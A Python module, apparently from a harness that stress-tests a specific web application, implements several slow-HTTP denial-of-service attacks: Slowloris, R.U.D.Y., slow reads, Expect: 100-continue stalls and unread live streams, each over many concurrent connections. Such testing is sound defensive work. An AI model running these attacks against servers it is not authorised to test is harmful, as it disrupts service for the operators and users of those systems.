"""Those who take their time, with what they send or with what they should read."""

from __future__ import annotations

import asyncio

from hostile.line import Target, attack, crowd, get, post

SIZE = 150


async def drip(target: Target, start: bytes, drop: bytes, pause: float = 0.2) -> None:
    """Begin a request and go on with it for as long as one is let."""
    async with target.line() as lines:
        if lines is None:
            return
        reader, writer = lines
        writer.write(start)
        while target.running and not reader.at_eof():
            writer.write(drop)
            await writer.drain()
            await asyncio.sleep(pause)


@attack
async def slow_heads(target: Target) -> None:
    """Slowloris: a header more now and then, for ever."""
    await crowd(
        target, SIZE, lambda n: drip(target, b"GET /en/ HTTP/1.1\r\nhost: a\r\n", b"x: %d\r\n" % n)
    )


@attack
async def slow_bodies(target: Target) -> None:
    """A report that comes byte by byte (R.U.D.Y.)."""
    await crowd(target, SIZE, lambda n: drip(target, post(b" " * 9_000)[:-9_000], b" "))


@attack
async def slow_batches(target: Target) -> None:
    """Batches of eight megabytes of which next to nothing comes."""
    start = post(b" " * 8_000_000, path=b"/api/v1/reports:batch")[:-7_900_000]
    await crowd(target, 20, lambda n: drip(target, start, b" "))


@attack
async def slow_bodies_of_pages(target: Target) -> None:
    """A page is asked for with a body that nobody reads and that never ends."""
    start = get(b"/en/", b"content-length: 999999999")
    await crowd(target, SIZE, lambda n: drip(target, start, b"x"))


@attack
async def readers_who_do_not_read(target: Target) -> None:
    """Pages are asked for by the dozen, and none of the answers is taken."""

    async def one(number: int) -> None:
        async with target.line() as lines:
            if lines is None:
                return
            reader, writer = lines
            reader._limit = 1  # asyncio stops reading then, and the answers stay with the server
            while target.running and not writer.is_closing():
                writer.write(get(b"/en/services/x?range=30d") * 8)
                await asyncio.sleep(1)

    await crowd(target, 60, one)


@attack
async def expectations(target: Target) -> None:
    """Expect: 100-continue, and then nothing."""
    start = post(b" " * 99, b"expect: 100-continue")[:-99]
    await crowd(target, SIZE, lambda n: drip(target, start, b""))


@attack
async def watchers_who_do_not_read(target: Target) -> None:
    """Live streams that nobody takes anything from."""

    async def one(number: int) -> None:
        async with target.line() as lines:
            if lines is None:
                return
            lines[0]._limit = 1
            lines[1].write(get(b"/api/v1/live"))
            while target.running and not lines[1].is_closing():
                await asyncio.sleep(0.5)

    await crowd(target, SIZE, one)
